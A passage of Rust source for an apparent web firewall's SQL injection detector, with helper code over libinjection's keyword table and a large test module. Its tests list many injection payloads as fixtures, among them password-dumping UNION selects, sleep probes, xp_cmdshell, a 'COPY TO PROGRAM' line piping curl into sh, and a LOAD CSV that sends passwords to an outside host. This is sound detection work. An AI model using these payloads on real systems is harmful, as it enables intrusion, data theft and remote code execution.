        if w == 0 || gap == 0 {
            return false;
        }
        rest = &rest[w + gap..];
    }
    // T-SQL runs `IF (…) statement` after any value with no separator
    // (`id if (exists (select name from users)) shutdown`): `if` and the words of a statement
    // are no aside. Narrower than [`STATEMENT_WORDS`] on purpose: its `from`, `update`,
    // `drop` and `delete` are words of ordinary prose.
    let statement = |w: &[u8]| {
        [
            &b"if"[..],
            b"select",
            b"exec",
            b"execute",
            b"shutdown",
            b"waitfor",
            b"declare",
            b"union",
        ]
        .iter()
        .any(|k| w.eq_ignore_ascii_case(k))
    };
    rest.first() == Some(&b'(')
        && !s.split(|c| !c.is_ascii_alphabetic()).any(statement)
        && s.iter().all(|&c| {
            c.is_ascii_alphanumeric()
                || c.is_ascii_whitespace()
                || !c.is_ascii()
                || b".,!?%()-:/+".contains(&c)
        })
}

/// [`SqlWords::inert`] over a table built once, and libinjection's verdict on `s`: for the
/// `waf_decoders` fuzz target, which checks that no text called inert is flagged.
pub(crate) fn inert_and_verdict(s: &[u8]) -> (bool, bool) {
    static WORDS: std::sync::OnceLock<Option<SqlWords>> = std::sync::OnceLock::new();
    let inert = WORDS
        .get_or_init(SqlWords::new)
        .as_ref()
        .is_some_and(|w| w.inert(s));
    let flagged = !s.is_empty()
        && libinjectionrs::SqliState::new(s, libinjectionrs::SqliFlags::FLAG_NONE).detect();
    (inert, flagged)
}

/// libinjection's table of SQL words and phrases (its fingerprints left out), upper case, with
/// their token types.
struct SqlWords {
    /// Hashed rather than searched: a search text's every word and every pair of neighbours
    /// is looked up, and a binary search (one byte comparison per step) cost 400 instructions
    /// a lookup. The table is fixed, so its probing cannot be lengthened from outside.
    words: std::collections::HashMap<&'static [u8], u8, foldhash::fast::RandomState>,
    /// Length of the longest entry.
    longest: usize,
}

/// Room for the longest entry of the table (29 bytes in libinjectionrs 0.1).
const WORD_BUF: usize = 64;

impl SqlWords {
    /// The table, or `None` when the reasoning of [`SqlWords::inert`] does not hold for it: a
    /// fingerprint on the blacklist made of bare words (`n`), numbers (`1`) and commas only,
    /// or an entry too long for the lookup buffer.
    fn new() -> Option<Self> {
        let table = libinjectionrs::sqli::sqli_data::SQL_KEYWORDS;
        let fingerprint_of_plain_text = table.iter().any(|k| {
            k.token_type == b'F'
                && k.word
                    .bytes()
                    .skip(1)
                    .all(|b| matches!(b, b'N' | b'1' | b','))
        });
        let words: std::collections::HashMap<_, _, _> = table
            .iter()
            .filter(|k| k.token_type != b'F')
            .map(|k| (k.word.as_bytes(), k.token_type))
            .collect();
        let longest = words.keys().map(|w| w.len()).max().unwrap_or(0);
        let upper = words.keys().all(|w| !w.iter().any(u8::is_ascii_lowercase));
        (!fingerprint_of_plain_text && upper && longest < WORD_BUF)
            .then_some(Self { words, longest })
    }

    /// The token type of a word or phrase starting with a letter in the table (looked up
    /// without regard to case).
    fn lookup(&self, word: &[u8]) -> Option<u8> {
        if word.len() > self.longest || !word.first()?.is_ascii_alphabetic() {
            return None;
        }
        let mut buf = [0u8; WORD_BUF];
        let upper = &mut buf[..word.len()];
        upper.copy_from_slice(word);
        upper.make_ascii_uppercase();
        self.words.get(&*upper).copied()
    }

    /// Whether libinjection cannot flag `s`: words (a letter, then letters, digits and `_`) and
    /// numbers (digits only) separated by spaces and commas, where no word is in the table as
    /// anything but a bare word and no two neighbours make a phrase of it (`GROUP BY`,
    /// `AT TIME`). libinjection reads such text as bare words, numbers and commas only: a
    /// word is one token up to a space or comma and takes its type from the table, a number
    /// is digits alone, there is no quote to start a string, comment, variable or quoted
    /// context, and folding turns neighbouring words into something else only where the
    /// table has their phrase. [`SqlWords::new`] checks that no blacklisted fingerprint is
    /// made of those three.
    fn inert(&self, s: &[u8]) -> bool {
        let mut prev: Option<&[u8]> = None;
        for chunk in s
            .split(|b| matches!(b, b' ' | b','))
            .filter(|c| !c.is_empty())
        {
            let number = chunk.iter().all(u8::is_ascii_digit);
            if !number {
                let word = chunk[0].is_ascii_alphabetic()
                    && chunk
                        .iter()
                        .all(|b| b.is_ascii_alphanumeric() || *b == b'_');
                if !word || self.lookup(chunk).is_some_and(|t| t != b'n') {
                    return false;
                }
            }
            if let Some(p) = prev {
                let len = p.len() + 1 + chunk.len();
                if len <= self.longest {
                    let mut phrase = [0u8; WORD_BUF];
                    phrase[..p.len()].copy_from_slice(p);
                    phrase[p.len()] = b' ';
                    phrase[p.len() + 1..len].copy_from_slice(chunk);
                    if self.lookup(&phrase[..len]).is_some() {
                        return false;
                    }
                }
            }
            prev = Some(chunk);
        }
        true
    }
}

#[cfg(test)]
mod tests {
    #[test]
    fn unit_numbers_are_not_comments() {
        use crate::detect::testing::hits;
        use crate::extract::Kind;
        for v in ["500 Select Ave #3", "12 Union St #4B"] {
            let h = hits(Kind::Value, "json:/address1", v, 1);
            assert!(!h.contains(&super::SQLI_LIBINJECTION), "{v}: {h:?}");
        }
        for v in [
            "1 union select password from users #3",
            "admin'#",
            "1' or 1=1 #x",
        ] {
            let h = hits(Kind::Value, "query:id", v, 1);
            assert!(!h.is_empty(), "{v}");
        }
    }

    #[test]
    fn css_variables_are_no_sql() {
        for s in [
            "var(--wp--preset--color--brand)",
            "calc(var(--gap) * 2) var(--wp--custom--spacing--outer)",
        ] {
            assert!(super::css_variables(s), "{s}");
            assert!(hits(Kind::Value, "json:/color", s, 1).is_empty(), "{s}");
        }
        for s in [
            "var(--x) or 1=1 -- c",
            "var(--x)' or '1'='1",
            "1 or 1=1 --",
            "5 or id>0/*var(--a)*/",
        ] {
            assert!(!super::css_variables(s), "{s}");
        }
    }

    #[test]
    fn metric_queries_are_no_sql() {
        for s in [
            "100 * (1 - node_filesystem_avail_bytes{fstype!~\"tmpfs|overlay\",mountpoint=\"/\"} / node_filesystem_size_bytes{mountpoint=\"/\"}) > 85",
            "{app=\"nginx\"} |= \"error\" | json | status >= 500",
            "# TYPE backup_duration_seconds gauge\nbackup_duration_seconds{target=\"/volume1/homes\"} 842.7\n",
        ] {
            assert!(super::metric_query(s), "{s}");
            assert!(hits(Kind::Value, "query:query", s, 1).is_empty(), "{s}");
        }
        for s in [
            "x{a=\"b\"} or 1=1#",
            "x{a=\"b\"}' or '1'='1",
            "x{a=\"b\"}; drop table t",
            "{\"a\": 1}",
            "1 OR username LIKE \"{a=\"\"%\"",
            "-1 UNION SELECT pass,\"{a=\" FROM users\n#",
            "x{a=\"b\"} or 1=1",
            "x{a=\"b\"} union select 1",
        ] {
            assert!(!super::metric_query(s), "{s}");
        }
    }

    #[test]
    fn aggregates_of_a_column_are_select_lists() {
        for s in ["sum(cost)", "COUNT(*)", "max( order.total )"] {
            assert!(super::aggregate_of_column(s), "{s}");
        }
        for s in [
            "sleep(5)",
            "sum(1)",
            "count(*) from users",
            "max(a,b)",
            "avg(x))--",
        ] {
            assert!(!super::aggregate_of_column(s), "{s}");
        }
    }

    #[test]
    fn expression_fields_of_low_code_tools_are_filters() {
        use crate::detect::testing::hits;
        use crate::extract::Kind;
        for (label, v) in [
            ("json:/expr", "status != 'closed' AND priority >= 2"),
            ("json:/expression", "{Name} & ' - ' & {Status}"),
            (
                "json:/condition",
                "due_date < TODAY() AND status != \"done\"",
            ),
            (
                "json:/rule",
                "rest_before_duty >= max(10h, prev_duty * 1.0) && sectors <= 6 || (augmented == true && fdp <= 17h)",
            ),
            ("json:/formula", "PTS / (2 * (FGA + 0.44 * FTA))"),
            ("json:/when", "avg(temp) over 15m > 8 and door == 'open'"),
        ] {
            let h = hits(Kind::Value, label, v, 1);
            assert!(!h.contains(&super::SQLI_LIBINJECTION), "{label} {v}: {h:?}");
            assert!(!h.contains(&super::SQLI_TAUTOLOGY), "{label} {v}: {h:?}");
        }
        // A string broken out of is read as anywhere else.
        let h = hits(Kind::Value, "json:/condition", "x' or '1'='1", 1);
        assert!(h.contains(&super::SQLI_LIBINJECTION), "{h:?}");
    }

    #[test]
    fn executable_comments_need_a_statement_word() {
        use crate::detect::testing::rule;
        use crate::extract::Kind;
        rule(
            super::SQLI_EXEC_COMMENT,
            true,
            Kind::Value,
            "query:id",
            1,
            &[
                "1 /*!50000union*/ select 2",
                "x /*!or*/ 1=1",
                "/*!12345SELECT*/ 1",
            ],
        );
        // Licence banners of CSS and script bundles open with `/*!` as well.
        rule(
            super::SQLI_EXEC_COMMENT,
            false,
            Kind::Value,
            "json:/css",
            1,
            &[
                "/*! normalize.css v8.0.1 | MIT License */",
                "/*! select2 4.0.13 | https://github.com/select2/select2 */",
                "/*! jQuery v3.7.1 | (c) OpenJS Foundation */",
            ],
        );
    }

    #[test]
    fn filter_expressions() {
        for ok in [
            "Name eq 'O''Neil' and Price gt 20",
            "project = OPS AND status in (\"In Progress\", Done) ORDER BY created DESC",
            "text ~ \"\\\"drop table\\\"\"",
            "userName eq \"bjensen\"",
            "INTERSECTS(the_geom, POINT(-74.817265 40.5296504)) AND type='park'",
        ] {
            assert!(super::filter_expression(ok), "{ok}");
        }
        for bad in [
            "x' or '1'='1",
            "1 union select 2",
            "a eq 1; drop table t",
            "a eq 1 -- x",
            "(a eq 1",
            "a eq 1 OR SLEEP",
            "Price gt 20) UNION SELECT username FROM users--",
        ] {
            assert!(!super::filter_expression(bad), "{bad}");
        }
    }

    #[test]
    fn filters_in_query_parameters() {
        use crate::detect::testing::hits;
        // A search parameter holding a filter expression of names compared with values is
        // read as a filter: shape alone does not count.
        for (label, v) in [
            (
                "query:query",
                "dc.title = \"moby dick\" and dc.creator = melville and dc.date > 1900",
            ),
            (
                "query:filterExpression",
                "'SINUSOID' > 50 AND BadVal('SINUSOID') = 0",
            ),
            ("query:searchFilter", "status = 'open' and owner = \"kim\""),
        ] {
            assert!(hits(Kind::Value, label, v, 1).is_empty(), "{label} {v}");
        }
        // Injections stay injections there: literals compared, a name compared with itself,
        // a literal standing as a condition of its own, tautologies.
        for v in [
            "1 and 1=2",
            "\"a b\" or id=id",
            "1\nand current_user=1",
            "iuc,20,1764,1768 and 1=@@version",
            "x or 1=1",
            "title = 'a' or 'a'='a'",
        ] {
            assert!(!hits(Kind::Value, "query:q", v, 1).is_empty(), "{v}");
        }
        // C's and JavaScript's `if` is not SQL's; SQL's, whole or cut short, still is.
        silent(
            "sqli",
            &["int main(int argc, char **argv) { if (argc > 1) strncpy(buf, argv[1], 63); }"],
        );
        flags(
            "sqli",
            &[
                "1 and if(1=1,sleep(5),0)",
                "x; if (1=1) waitfor delay '0:0:5'",
                "if(2=",
                "1 and if(current_user='root',sleep(5),0)",
                "x*if(@@version>5,1,2)",
            ],
        );
        silent(
            "sqli",
            &[
                "premium * if(driver_age < 25, 1.5, 1.0)",
                "if(status = \"open\", 1, 0)",
            ],
        );
    }

    #[test]
    fn query_languages_of_data_stores() {
        rule(
            SQLI_QUERY_LANGUAGE,
            true,
            Kind::Value,
            "query:name",
            1,
            &[
                "x' RETURN 0 AS c UNION CALL db.labels() YIELD label RETURN label AS c //",
                "X1' RETURN 1 UNION MATCH (u:User) RETURN u //",
                "shoe\" RETURN DOCUMENT(\"_users/root\") //",
                "a' RETURN n //",
                "FOR p IN products RETURN p UNION (FOR u IN _users RETURN u)",
                "MATCH (u) LOAD CSV FROM 'https://x.example/?p=' + u.password AS l RETURN 1",
                "status:published) OR (_exists_:password_hash OR role:admin",
                "1) or (id=1",
                "checkout\"} or {__name__=~\".+\"} #",
                "payments\"} |= \"\" or {namespace=~\".+",
                "x') call dbms.procedures()",
            ],
        );
        rule(
            SQLI_QUERY_LANGUAGE,
            false,
            Kind::Value,
            "query:q",
            1,
            &[
                "MATCH (p:Person {name: 'Ann'}) RETURN p.name LIMIT 5",
                "FOR d IN orders FILTER d.total > 10 RETURN d",
                "a) apples or (b) pears",
                "see (1) and (2)",
                "sum(rate(http_requests_total{job=\"api\"}[5m])) by (code)",
                "{app=\"web\"} |= \"error\"",
                "She said \"no\" and left; return later",
                "LOAD CSV WITH HEADERS FROM 'file:///people.csv' AS row RETURN row",
            ],
        );
        rule(
            PROTO_REDOS,
            true,
            Kind::Value,
            "json:/selector/customer/$regex",
            1,
            &[
                "^(a+)+$",
                "^(([a-z])+.)+[A-Z]([a-z])+$",
                "(\\w+\\s?)*$",
                "(x*)*y",
                "([0-9]+){2,}",
            ],
        );
        rule(
            PROTO_REDOS,
            false,
            Kind::Value,
            "query:re",
            1,
            &[
                "^([a-z0-9-]+\\.)*example\\.com$",
                "(\\.[A-Za-z0-9-]+)*",
                "(3+4)*2",
                "(a|b)+",
                "[a-z]+(-[a-z]+)*",
            ],
        );
    }

    #[test]
    fn statements_keep_what_injections_leave() {
        for (param, text, rule) in [
            (
                "stmt",
                "SELECT id, price FROM products WHERE brand='acme' UNION SELECT id, password FROM users",
                SQLI_UNION,
            ),
            (
                "q",
                "SELECT * FROM temp WHERE device_id='d-17' OR 1=1 OR device_id='' LIMIT 10000",
                SQLI_TAUTOLOGY,
            ),
            (
                "body",
                "SELECT * FROM hive.web.sessions WHERE sid = '' OR '' = '' UNION ALL SELECT * FROM system.runtime.queries",
                SQLI_TAUTOLOGY,
            ),
            (
                "query",
                "COPY (SELECT 1) TO PROGRAM 'curl 203.0.113.50|sh'",
                SQLI_FUNCTION,
            ),
            (
                "query",
                "SELECT * FROM executable('id', 'TSV', 'out String')",
                SQLI_FUNCTION,
            ),
            (
                "query",
                "SELECT * FROM remote('10.0.0.5:9000', system.one)",
                SQLI_FUNCTION,
            ),
            (
                "query",
                "SELECT * FROM postgresql('10.0.4.21:5432', 'postgres', 'pg_authid', 'postgres', '')",
                SQLI_FUNCTION,
            ),
            (
                "query",
                "SELECT * FROM file('/etc/passwd', 'LineAsString')",
                SQLI_FUNCTION,
            ),
            (
                "$filter",
                "lastname eq 'Smith' or 1 eq 1 or lastname eq ''",
                SQLI_TAUTOLOGY,
            ),
            (
                "$filter",
                "lastname eq 'Smith' or 1 eq 1 or lastname eq '",
                SQLI_TAUTOLOGY,
            ),
            ("filter", "(title~'a' || 1=1) && id!=''", SQLI_TAUTOLOGY),
            (
                "query",
                "SELECT * FROM t WHERE a = 'b' OR 'nan'='nan'",
                SQLI_TAUTOLOGY,
            ),
            (
                "filter",
                "userName eq \"admin'or'1'='1\"",
                SQLI_LIBINJECTION,
            ),
            (
                "search",
                "profile.email co \"x\" or urn:ietf:params:scim:schemas:core:2.0:User:userName sw \"\"",
                SQLI_TAUTOLOGY,
            ),
            (
                "query",
                "SELECT * FROM t WHERE a = 'b' OR 1==1",
                SQLI_TAUTOLOGY,
            ),
            (
                "query",
                "SELECT * FROM t WHERE a = 'b' OR '1'=1",
                SQLI_TAUTOLOGY,
            ),
            (
                "query",
                "SELECT * FROM t WHERE a = 'b' OR ((1))=((1))",
                SQLI_TAUTOLOGY,
            ),
            (
                "query",
                "SELECT * FROM t WHERE a = 'b' or 'a' ilike 'a%'",
                SQLI_TAUTOLOGY,
            ),
            ("$filter", "name eq 'x' or 'b' gt 'a'", SQLI_TAUTOLOGY),
            (
                "query",
                "SELECT * FROM t WHERE a = 'b' or 'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaab' like '%a%a%a%a%a%a%a%a%a%a%a%a%a%a%a%a%a%b'",
                SQLI_TAUTOLOGY,
            ),
            ("q", "SELECT * FROM t WHERE a = 'b' OR 2>1", SQLI_TAUTOLOGY),
            (
                "sql",
                "SELECT * FROM t WHERE a = 'b' OR(1=1)",
                SQLI_TAUTOLOGY,
            ),
            (
                "query",
                "SELECT * FROM t WHERE a = 'b' or 'a'<>'b'",
                SQLI_TAUTOLOGY,
            ),
            (
                "query",
                "SELECT * FROM t WHERE a = 'b' or 'x' like '%'",
                SQLI_TAUTOLOGY,
            ),
            ("$filter", "name eq 'x' or 2 gt 1", SQLI_TAUTOLOGY),
            (
                "filter",
                "userName eq \"jdoe\" or \"1\" eq \"1\"",
                SQLI_TAUTOLOGY,
            ),
            (
                "search",
                "profile.email eq \"a@b.c\" or profile.login sw \"\" or profile.email eq \"\"",
                SQLI_TAUTOLOGY,
            ),
            (
                "path",
                "emails[type eq \"work\" or \"a\" eq \"a\"].value",
                SQLI_TAUTOLOGY,
            ),
            (
                "filter",
                "userName eq \"admin' OR '1'='1\"",
                SQLI_LIBINJECTION,
            ),
            (
                "select_query",
                "select id from users where a = 'b' or 'x' = 'x'",
                SQLI_TAUTOLOGY,
            ),
        ] {
            let label = format!("query:{param}");
            let h = hits(Kind::Value, &label, text, 1);
            assert!(h.contains(&rule), "{text}: {h:?}");
        }
        // An injection whose quotes a statement parameter would read the other way round is
        // read as any other value.
        for text in [
            "select from ' UNION SELECT email, pass FROM users -- '",
            "explain ' OR 2>1 -- '",
        ] {
            assert!(!hits(Kind::Value, "query:q", text, 1).is_empty(), "{text}");
        }
        for (param, text) in [
            (
                "query",
                "SELECT region, sum(x) FROM a GROUP BY region UNION ALL SELECT region, sum(y) FROM b GROUP BY region",
            ),
            (
                "q",
                "SELECT mean(\"usage_idle\") FROM \"cpu\" WHERE time > now() - 1h GROUP BY time(5m)",
            ),
            ("sql", "SELECT * FROM t WHERE 1=1 AND status = 'open'"),
            (
                "sql",
                "SELECT * FROM t WHERE a = 'b' OR 1 > 2 OR 'x' <> 'x'",
            ),
            (
                "query",
                "SELECT count() FROM s3('https://b.example.com/data.csv', 'CSVWithNames')",
            ),
            (
                "query",
                "SELECT token_count, user_id FROM usage WHERE day = today()",
            ),
            (
                "select_query",
                "select Last_Name, Email from Contacts where (Last_Name like 'O%' and Mailing_Country = 'Ireland') order by Last_Name limit 200",
            ),
            ("$filter", "statecode eq 0 or revenue gt 1000"),
            ("$filter", "Description eq '27\" Monitor' and Price lt 300"),
            (
                "filter",
                "name.familyName eq \"O'Brien\" or name.familyName eq \"O'Neil\"",
            ),
            ("$filter", "name eq 'Farmers'' and Merchants'' Bank'"),
        ] {
            let label = format!("query:{param}");
            let h = hits(Kind::Value, &label, text, 1);
            assert!(h.is_empty(), "{text}: {h:?}");
        }
    }

    #[test]
    fn read_statements() {
        for ok in [
            "SELECT host.name, COUNT(*) FROM logs WHERE level = 'error' GROUP BY host.name HAVING COUNT(*) > 5",
            "select mean(\"usage_idle\") from \"cpu\" where time > now() - 1h group by time(5m)",
            "WITH t AS (SELECT a FROM x) SELECT * FROM t UNION ALL SELECT b FROM y;",
            "SELECT `user`, count() FROM `db`.`events` WHERE ts >= '2024-01-01'::date",
            "SELECT * FROM \"hive\".\"web\".\"events\" WHERE name = 'O''Neil'",
            "SHOW TABLES",
            "SELECT count() FROM s3('https://b.example.com/data.csv')",
        ] {
            assert!(super::read_statement(ok), "{ok}");
        }
        for bad in [
            "SELECT 1; DROP TABLE t",
            "SELECT a FROM t -- x",
            "SELECT a FROM t /* x */",
            "SELECT * INTO OUTFILE '/tmp/x' FROM t",
            "SELECT a FROM t WHERE '1'='1'",
            "1 UNION SELECT password FROM users",
            "' UNION SELECT 1",
            "SELECT a FROM t WHERE x = 'y",
            "SELECT (a FROM t",
            "SELECT sleep(5)",
            "select",
            "SELECT a FROM t # c",
            "selection of fine wines",
            "select 1 from foo where",
            "select sin(1),2 from bar where",
            "select @version foo",
            "SELECT 0x7461626c655f6e616d65 FROM all_tab_tables",
            "SELECT a, FROM t WHERE x =",
            "SELECT 1",
            // An injection that starts inside the application's string: its code is what
            // this reads as strings.
            "select from ' UNION SELECT email, pass FROM users -- '",
            "explain ' OR 2>1 -- '",
            "show ' || 1 '",
            "select a from t where ' or x = '",
        ] {
            assert!(!super::read_statement(bad), "{bad}");
        }
    }

    use crate::detect::testing::{flags, hits, rule, silent};
    use crate::extract::Kind;
    use crate::rules::*;

    #[test]
    fn detects_classic_injections() {
        flags(
            "sqli",
            &[
                "1' OR '1'='1",
                "1 OR 1=1",
                "admin'--",
                "1 UNION ALL SELECT username, password FROM users",
                "1;DROP TABLE users",
                "x' AND SLEEP(5)-- -",
                "1/**/UNION/**/SELECT/**/1,2",
                "1%2527%2520OR%25201%253D1",
                "if(now()=sysdate(),sleep(12),0)",
                "' or 'x'='x",
                "1 AND (SELECT * FROM information_schema.tables)",
                "'; EXEC xp_cmdshell('dir')--",
                "OR '[1,2]' ? '1'",
                "select pg_sleep",
                "if(2=",
                "admin'-- ",
                "x\" and \"1\"=\"1",
                "\"x\" or 1=1",
                "\"a b\" or id=id",
                "name:\"x\" or '1'='1'",
                "root'#",
                "x')->>'role'",
                "name ASC,(SELECT CASE WHEN (1=1) THEN 1 ELSE 1/0 END)",
                "(select 1 from dual)",
                "PN-1001' or count(/*)=1 or 'a'='b",
                "' or true() or '",
                "' or codepoints-to-string((97,100,109,105,110))=//user[1]/name or '",
                "x\" or not(false()) or \"",
                "root@example.com'/* comment */;",
                "1 and multipolygon((select * from(select * from(select @@version)f)x))",
                "GeometryCollection((select * from (select * from(select user())a)b))",
                "'||UTL_HTTP.REQUEST",
                "x' UN/**/ION SEL/**/ECT email,password FR/**/OM accounts--",
                "x\"||sys.dbms_xmlgen.getxml('select 1 from dual')||\"",
                "1 union distinctrow select password from users",
                "-1 union#\ndistinctrow\x0bselect 1",
                "1 UNION--x\nDISTINCTROW--y\nSELECT 1,2",
                "9999 or {if length((/*!5000select username/*!50000from*/user where id=1))>0}",
            ],
        );
    }

    #[test]
    fn geometries_and_filters_of_map_services() {
        let wkt = "MULTIPOLYGON(((40 40, 20 45, 45 30, 40 40)), ((20 35, 10 30, 10 10, 30 5)))";
        rule(SQLI_FUNCTION, false, Kind::Value, "json:/wkt", 1, &[wkt]);
        rule(
            SQLI_FUNCTION,
            false,
            Kind::Value,
            "json:/g",
            1,
            &["GEOMETRYCOLLECTION(POINT(4 6),LINESTRING(4 6,7 10))"],
        );
        for template in ["{{ now().hour >= 18 }}", "const t = Date.now();"] {
            assert!(
                !hits(Kind::Value, "json:/v", template, 1).contains(&SQLI_STATEMENT),
                "{template}"
            );
        }
        let cql = "INTERSECTS(the_geom, POINT(-74.817265 40.5296504)) AND type='park'";
        assert!(hits(Kind::Value, "query:CQL_FILTER", cql, 1).is_empty());
        assert!(!hits(Kind::Value, "query:where", "1 or 1=1", 1).is_empty());
        rule(
            SQLI_FUNCTION,
            true,
            Kind::Value,
            "query:x",
            1,
            &["1 and multipolygon( (select * from (select user())a))"],
        );
    }

    #[test]
    fn leaves_names_and_prose_alone() {
        silent(
            "sqli",
            &[
                "O'Brien",
                "Seán O'Neill-D'Arcy",
                "Please select a union representative from the list",
                "/* or use the theme's colours */ body { color: red }",
                "union #1 of the federation",
                "We will update you and delete nothing",
                "It's 5 o'clock and we're done",
                "Rock 'n' roll; the union of sets",
                "Select your size: S, M, L",
                "1-2-3",
                "john.doe@example.com",
                "(0028)-617555",
                "(2.5 * (3 + 4)) / 7 - 2^3 % 5",
                "(1 + 2) * 3 = 9",
                "ln(e^2) = 2",
                "sqrt(2) ≈ 1.414",
                "beach day (1).jpg",
                "IMG_2024 (12).jpeg",
                "2x + 3y - (4z / 2)",
                "+49(0) 501833372",
                "The drop table was set by the union",
                "Item (blue) order is pending",
                "snacks (chips) and drinks in the fridge",
                "Typo: 'recieve' -> 'receive' (line 42)",
                "Rename 'foo' -> 'bar' in the docs",
                "title:\"foo bar\" AND year>2000 -remake",
                "\"exact phrase\" -exclude title:\"foo bar\" AND year>2000",
                "7\" #2 CIRCULAR NEEDLE",
                "foo'--'bar'",
                "Choose a size (select one)",
                "Toppings (select all that apply): cheese, olives",
                "Last year (2023) we grew",
                "One quarter (24%) of people have had an affair",
                "My left (1) hand",
                "Best ascii (7-bit) text",
                "=IF(B2>100,\"high\",\"low\")",
                "sqrt(x^2+y^2);atan2(y,x);e^(i*pi)+1",
            ],
        );
        // SQL's IF() still counts where something stands before it.
        rule(
            SQLI_STATEMENT,
            true,
            Kind::Value,
            "query:q",
            1,
            &["x'=if(1=1,sleep(5),0)='", "1 and if(1=1,1,0)"],
        );
        rule(
            SQLI_STATEMENT,
            true,
            Kind::Value,
            "query:column",
            1,
            &["age) FROM users WHERE admin = 't';--", "id) from users--"],
        );
        rule(
            SQLI_STATEMENT,
            false,
            Kind::Value,
            "query:q",
            1,
            &[
                "total (approx.) from users where active",
                "1) from the menu, where you pick a plan",
                "a) from scratch",
                "1) from page#3",
            ],
        );
        // The same shape with the call glued to its bracket, or with a quote, is read.
        rule(
            SQLI_LIBINJECTION,
            true,
            Kind::Value,
            "query:q",
            1,
            &[
                "name sleep(5)",
                "Last year ('2023') we grew",
                "id if (exists (select name from users)) shutdown",
            ],
        );
    }

    /// Text [`super::SqlWords::inert`] lets through is text libinjection does not flag, over
    /// sequences of plain words, SQL words, numbers, spaces and commas.
    #[test]
    fn inert_text_is_text_libinjection_never_flags() {
        let words = super::SqlWords::new().expect("the table fits the reasoning");
        // The letter index finds every entry that starts with a letter, in any case.
        for k in libinjectionrs::sqli::sqli_data::SQL_KEYWORDS {
            if k.token_type != b'F' && k.word.as_bytes()[0].is_ascii_alphabetic() {
                let lower = k.word.to_ascii_lowercase();
                assert_eq!(
                    words.lookup(lower.as_bytes()),
                    Some(k.token_type),
                    "{}",
                    k.word
                );
            }
        }
        assert_eq!(words.lookup(b"programming"), None);
        let vocabulary = [
            "rust",
            "programming",
            "books",
            "page",
            "2",
            "1",
            "0",
            "42",
            "1234",
            "union",
            "select",
            "or",
            "and",
            "from",
            "where",
            "order",
            "by",
            "group",
            "sleep",
            "null",
            "true",
            "like",
            "sounds",
            "at",
            "time",
            "zone",
            "waitfor",
            "delay",
            "is",
            "not",
            "in",
            "between",
            "case",
            "when",
            "then",
            "else",
            "end",
            "having",
            "limit",
            "offset",
            "into",
            "table",
            "drop",
            "x",
            "a",
            "id",
            "user_id",
            "admin",
            "password",
            "version",
            "char",
            "xor",
            "div",
            "mod",
            "exec",
            "declare",
            "begin",
            "as",
            "asc",
            "desc",
            "all",
            "distinct",
            "1e5",
            "0x1f",
            "2nd",
            "md5",
            "utf8",
            "set",
            "values",
            "insert",
            "update",
            "delete",
        ];
        let mut seed: u64 = 0x2545_f491_4f6c_dd1d;
        let mut next = |n: usize| {
            seed ^= seed << 13;
            seed ^= seed >> 7;
            seed ^= seed << 17;
            (seed % n as u64) as usize
        };
        let (mut inert, mut flagged) = (0, 0);
        for _ in 0..40_000 {
            let mut text = String::new();
            for i in 0..1 + next(6) {
                if i > 0 {
                    text.push_str([" ", ", ", ",", "  "][next(4)]);
                }
                text.push_str(vocabulary[next(vocabulary.len())]);
            }
            let detected = libinjectionrs::SqliState::new(
                text.as_bytes(),
                libinjectionrs::SqliFlags::FLAG_NONE,
            )
            .detect();
            flagged += usize::from(detected);
            if words.inert(text.as_bytes()) {
                inert += 1;
                assert!(!detected, "{text:?} is flagged but was called inert");
            }
        }
        // Both sides are represented, so the property was tested, not assumed.
        assert!(
            inert > 2_000 && flagged > 20,
            "inert {inert}, flagged {flagged}"
        );
        for text in [
            "rust programming 1234",
            "Springfield, 62704",
            "red shoes size 9",
        ] {
            assert!(words.inert(text.as_bytes()), "{text}");
        }
        for text in [
            "1 union select 2",
            "group by 1",
            "x or 1",
            "2nd",
            "a.b",
            "a-b",
            "'x'",
        ] {
            assert!(!words.inert(text.as_bytes()), "{text}");
        }
    }

    #[test]
    fn identifiers_skipped_are_ones_libinjection_never_flags() {
        for w in [
            "union",
            "select",
            "or",
            "and",
            "sleep",
            "version",
            "x",
            "u",
            "n",
            "q",
            "e",
            "b",
            "order_id",
            "select_1",
            "UNION",
            "drop_table",
            "information_schema",
            "xp_cmdshell",
            "a1b2",
            "n_",
            "true",
            "null",
            "waitfor",
            "benchmark",
            "OR1",
        ] {
            assert!(super::single_word(w.as_bytes()), "{w}");
            let mut state =
                libinjectionrs::SqliState::new(w.as_bytes(), libinjectionrs::SqliFlags::FLAG_NONE);
            assert!(!state.detect(), "{w}");
        }
        for w in ["1union", "a.b", "a b", "a`b", "_a", "x'41'", "", "a-b"] {
            assert!(!super::single_word(w.as_bytes()), "{w}");
        }
    }

    #[test]
    fn looser_checks_only_at_higher_paranoia() {
        let p = "select name from users";
        assert!(hits(Kind::Value, "query:q", p, 2).contains(&SQLI_OPERATOR));
        assert!(!hits(Kind::Value, "query:q", "please select one", 2).contains(&SQLI_OPERATOR));
        assert!(hits(Kind::Value, "query:q", "please select one", 3).contains(&SQLI_KEYWORD_LOOSE));
    }

    #[test]
    fn numeric_tautologies_follow_at_most_three_words() {
        rule(
            SQLI_TAUTOLOGY,
            true,
            Kind::Value,
            "query:q",
            1,
            &[
                "1234 or 1=1",
                "5) and (2>1",
                "shoes and 1=1",
                "id 7 && 2 > 1",
            ],
        );
        let prose = "told you so, see the chart above. Also 3 < 5 && 7 > 2, so it checks out";
        assert!(!hits(Kind::Value, "json:/body", prose, 1).contains(&SQLI_TAUTOLOGY));
    }

    #[test]
    fn a_true_tautology_needs_the_operator_apart() {
        let t = ["'or true", "x' or 1--", "')||true#", "\"or 7 limit 1"];
        rule(SQLI_TAUTOLOGY, true, Kind::Value, "form:email", 1, &t);
        // `ortrue` and `or1` are one identifier each: no operator, no tautology.
        let words = ["'ortrue", "'or1", "x'orange 1"];
        rule(SQLI_TAUTOLOGY, false, Kind::Value, "form:email", 1, &words);
    }

    #[test]
    fn boolean_search_queries_are_not_sql() {
        for q in [
            "(jacket OR parka) AND waterproof NOT \"faux fur\"",
            "\"Acme Corp\" & (Boston OR Cambridge)",
        ] {
            assert!(super::search_expression(q), "{q}");
            assert!(hits(Kind::Value, "query:q", q, 1).is_empty(), "{q}");
        }
        for not_search in [
            "a && b OR c",
            "x&sleep OR y",
            "1 OR 1",
            "x OR sleep",
            "a OR b=1",
            "jacket or parka",
            "x' OR 'a",
            "a OR b -- c",
        ] {
            assert!(!super::search_expression(not_search), "{not_search}");
        }
    }

    #[test]
    fn hex_strings_compared_without_quotes() {
        let p = "0x61646d696e or role=0x737570657275736572";
